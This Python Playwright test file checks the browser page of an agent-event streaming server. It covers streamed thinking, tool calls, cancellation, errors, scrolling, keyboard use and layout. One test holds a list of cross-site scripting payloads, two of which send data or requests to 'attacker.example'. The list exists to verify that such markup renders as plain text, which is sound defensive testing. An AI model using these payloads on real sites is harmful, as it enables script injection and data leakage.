"""The page at `/` in a real browser, on both transports."""

from __future__ import annotations

from collections.abc import Sequence
from pathlib import Path
from typing import Literal

import pytest
from playwright.async_api import Error, expect

from e2e.visit import Transport, Visit, both
from serving import Puppet, Puppets

pytestmark = pytest.mark.asyncio(loop_scope="session")

ARTEFACTS = Path(__file__).parents[2] / "test-artefacts"


def answer(puppet: Puppet, *words: str) -> None:
    """A run of two steps: a thought, two tools of which one fails, and these words."""
    puppet.emit("STEP_START", step=1, max_steps=8)
    for word in ("I look ", "at the ", "README first."):
        puppet.emit("THINKING", content=word)
    for number, (name, parameters) in enumerate({"Read": {"path": "README.md"}, "Search": {"glob": "*.rs"}}.items()):
        puppet.emit("TOOL_CALL_START", tool_call_id=f"c{number}", tool_name=name, parameters=parameters)
    told = {"tool_name": "Search", "result": "no file matches", "status": "error", "duration": 1.25}
    puppet.emit("TOOL_CALL_FINISH", tool_call_id="c1", **told)
    told = {"tool_name": "Read", "result": "# Twinwire", "status": "ok", "duration": 0.012}
    puppet.emit("TOOL_CALL_FINISH", tool_call_id="c0", **told)
    puppet.emit("STEP_FINISH", step=1, action="tool_calls")
    puppet.emit("PROGRESS", progress=40, step=1, total=8)
    puppet.emit("STEP_START", step=2, max_steps=8)
    puppet.say(*words)


@both
async def test_a_run_is_shown(visit: Visit, puppets: Puppets, transport: Transport) -> None:
    """Thinking, tool calls, steps, progress and the answer appear, white space is kept, and the end is verified."""
    await visit.choose(transport)
    await visit.ask("What is\tthis?")
    puppet = await puppets.next()
    assert puppet.request.message == "What is\tthis?"
    answer(puppet, "A server:\n", "  - it streams\n", "  - it resumes")
    await expect(visit.answer).to_have_text("A server:\n  - it streams\n  - it resumes", use_inner_text=True)
    thinking = visit.page.locator(".thinking")
    await expect(thinking).to_have_text("I look at the README first.")
    await expect(thinking).to_have_css("font-style", "italic")
    await expect(visit.page.locator(".step")).to_have_text(["Step 1 of 8", "Step 2 of 8"])
    tools = visit.page.locator(".tool")
    await expect(tools).to_have_text(
        ["Read path: README.md ok · 12 ms", "Search glob: *.rs failed · 1.3 s · no file matches"]
    )
    await expect(tools.locator(".name").first).to_have_css("font-weight", "700")
    await expect(visit.page.get_by_role("progressbar")).to_have_js_property("value", 40)
    await expect(visit.notice).to_have_text("Answering…")
    await expect(visit.shown("Transport")).to_have_text(transport)
    puppet.end()
    await expect(visit.notice).to_have_text("Completed")
    await expect(visit.page.locator(".outcome")).to_contain_text("16 of 16 events")
    await expect(visit.shown("Cursor")).to_have_text("event 16")
    await expect(visit.shown("First token")).to_contain_text("s")
    await expect(visit.button("Stop")).to_be_disabled()


@both
async def test_stop_cancels(visit: Visit, puppets: Puppets, transport: Transport) -> None:
    """Stop ends the agent itself, and the page shows the run as cancelled with what had come."""
    await visit.choose(transport)
    await visit.ask()
    puppet = await puppets.next()
    puppet.say("This far")
    await expect(visit.answer).to_have_text("This far")
    await visit.button("Stop").click()
    await puppet.closed.wait()
    await expect(visit.notice).to_have_text("Cancelled")
    await expect(visit.page.locator(".outcome")).to_contain_text("Cancelled")
    await expect(visit.page.get_by_label("Message")).to_be_focused()


@both
async def test_stop_before_the_first_event(visit: Visit, puppets: Puppets, transport: Transport) -> None:
    """A run that has said nothing is cancelled by its request on a WebSocket; EventSource knows no id and leaves."""
    await visit.choose(transport)
    await visit.ask()
    puppet = await puppets.next()
    await expect(visit.notice).to_have_text("Answering…")
    await visit.button("Stop").click()
    await expect(visit.notice).to_have_text("Cancelled" if transport == "WebSocket" else "Stopped")
    await expect(visit.button("Stop")).to_be_disabled()
    assert puppet.closed.is_set() == (transport == "WebSocket")


@both
async def test_an_error_is_shown(visit: Visit, puppets: Puppets, transport: Transport) -> None:
    """A failed run ends with its message in red, and a tool call it left open is closed."""
    await visit.choose(transport)
    await visit.ask()
    puppet = await puppets.next()
    puppet.emit("TOOL_CALL_START", tool_call_id="c1", tool_name="Read", parameters={"path": "a"})
    puppet.fail(RuntimeError("a secret"))
    error = visit.page.locator(".error")
    await expect(error).to_have_text("the agent failed")
    await expect(error).to_have_css("color", "rgb(192, 38, 45)")
    await expect(visit.page.locator(".tool")).to_contain_text("not finished")
    await expect(visit.notice).to_have_text("Failed")


@both
async def test_a_new_message_interrupts(visit: Visit, puppets: Puppets, transport: Transport) -> None:
    """A message sent during an answer ends that run and starts its own, in the same conversation."""
    await visit.choose(transport)
    await visit.ask("first")
    first = await puppets.next()
    first.say("never fin")
    await expect(visit.answer).to_have_text("never fin")
    await visit.ask("second")
    second = await puppets.next()
    await first.closed.wait()
    assert second.request.session_id == first.request.session_id
    assert [message["content"] for message in second.request.history] == ["first", "never fin"]
    second.say("done")
    second.end()
    await expect(visit.notice).to_have_text("Completed")
    await expect(visit.answer).to_have_text(["never fin", "done"])
    await expect(visit.page.locator(".outcome").first).to_have_text("Interrupted")


@both
async def test_new_conversation(visit: Visit, puppets: Puppets, transport: Transport) -> None:
    """A new conversation cancels what runs, empties the pane, and knows nothing of the one before."""
    await visit.choose(transport)
    await visit.ask("first")
    first = await puppets.next()
    first.say("word")
    await expect(visit.answer).to_have_text("word")
    await visit.button("New conversation").click()
    await first.closed.wait()
    await expect(visit.answer).to_have_count(0)
    await visit.button("Analyse the project structure").click()
    second = await puppets.next()
    assert second.request.message == "Analyse the project structure"
    assert second.request.history == []


ATTACKS = (
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "![x](https://attacker.example/?q=secret)",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>*{background:url(//attacker.example)}</style>",
    "&lt;b&gt;\u202e",
)


@both
async def test_markup_stays_text(visit: Visit, puppets: Puppets, transport: Transport) -> None:
    """Markup of a user, a model or a tool is text, in whatever pieces it comes: no element, dialog or request."""
    everything = "".join(ATTACKS)
    await visit.choose(transport)
    await visit.ask(everything)
    puppet = await puppets.next()
    puppet.emit("THINKING", content=everything)
    puppet.emit("TOOL_CALL_START", tool_call_id="c1", tool_name=ATTACKS[0], parameters={ATTACKS[1]: ATTACKS[0]})
    puppet.emit(
        "TOOL_CALL_FINISH", tool_call_id="c1", tool_name=ATTACKS[0], result=ATTACKS[0], status="error", duration=0
    )
    puppet.say(*everything)
    puppet.emit("ERROR", error_type="agent_error", message=everything, error=everything)
    await expect(visit.notice).to_have_text("Failed")
    for part in (".question", ".thinking", ".answer", ".error"):
        await expect(visit.page.locator(part).last).to_have_text(everything)
    await expect(visit.page.locator(".tool .name")).to_have_text(ATTACKS[0])
    await expect(visit.output.locator(":is(img, script, svg, a, style, b:not(.name))")).to_have_count(0)


async def test_markup_is_refused_by_the_browser(visit: Visit) -> None:
    """The page's policy makes the browser itself refuse what a careless change might do: markup from a string."""
    with pytest.raises(Error, match="TrustedHTML"):
        await visit.page.evaluate("document.body.innerHTML = '<img src=x>'")
    visit.forgive("TrustedHTML")


async def test_pane_follows_unless_its_reader_scrolled_up(visit: Visit, puppets: Puppets) -> None:
    """What comes scrolls the pane, but not away from what somebody went back to read."""
    await visit.ask()
    puppet = await puppets.next()
    puppet.say(*(f"line {number}\n" for number in range(200)), "newest")
    await expect(visit.answer).to_contain_text("newest")
    await visit.page.locator("#run-cursor", has_text="event 202").wait_for()  # drawn, as the scrolling is
    assert await visit.output.evaluate("pane => pane.scrollHeight - pane.scrollTop - pane.clientHeight") < 2
    await visit.output.focus()
    await visit.page.keyboard.press("Home")
    await visit.page.locator("#output").evaluate(
        "pane => new Promise(done => pane.scrollTop ? pane.onscrollend = done : done())"
    )
    puppet.say(*(f"line {number}\n" for number in range(50)))
    await visit.page.locator("#run-cursor", has_text="event 252").wait_for()
    assert await visit.output.evaluate("pane => pane.scrollTop") == 0


async def test_keyboard(visit: Visit, puppets: Puppets) -> None:
    """Enter sends, Shift+Enter makes a new line, a blank message is none, and all controls are reached by Tab."""
    message = visit.page.get_by_label("Message")
    await expect(message).to_be_focused()
    await visit.page.keyboard.press("Enter")
    await visit.page.keyboard.type("one")
    await visit.page.keyboard.press("Shift+Enter")
    await visit.page.keyboard.type("two")
    await visit.page.keyboard.press("Enter")
    puppet = await puppets.next()
    assert puppet.request.message == "one\ntwo"
    await expect(visit.button("Cut the connection")).to_be_enabled()
    for name in ("Send", "Stop", "Cut the connection"):
        await visit.page.keyboard.press("Tab")
        await expect(visit.button(name)).to_be_focused()
    puppet.end()
    await expect(visit.notice).to_have_text("Completed")
    assert puppets.started == 1


async def picture(visit: Visit, name: str) -> None:
    """A screenshot for human eyes; the page must not be wider than its window."""
    widths = await visit.page.evaluate("[document.documentElement.scrollWidth, innerWidth]")
    assert widths[0] <= widths[1]
    ARTEFACTS.mkdir(exist_ok=True)
    await visit.page.screenshot(path=ARTEFACTS / f"page-{name}.png")


@pytest.mark.parametrize(
    ("name", "size", "scheme"),
    [("light", (1100, 760), "light"), ("dark", (1100, 760), "dark"), ("phone", (320, 640), "light")],
)
async def test_looks(
    visit: Visit, puppets: Puppets, name: str, size: Sequence[int], scheme: Literal["light", "dark"]
) -> None:
    """Light, dark and as narrow as a phone, nothing makes the page scroll sideways."""
    await visit.page.set_viewport_size({"width": size[0], "height": size[1]})
    await visit.page.emulate_media(color_scheme=scheme)
    await picture(visit, f"{name}-empty")
    await visit.ask("What is this project, and where would a newcomer start to read?")
    puppet = await puppets.next()
    answer(puppet, "Twinwire serves an agent's events over ", "Server-Sent Events and WebSocket, from one log.\n\n")
    puppet.say("  1. server/PROTOCOL.md\n", "  2. " + "a_very_long_name_" * 12, "\n")
    await expect(visit.shown("Cursor")).to_have_text("event 17")
    await picture(visit, f"{name}-running")
    puppet.say("And so on.")
    puppet.end()
    await expect(visit.notice).to_have_text("Completed")
    await picture(visit, name)
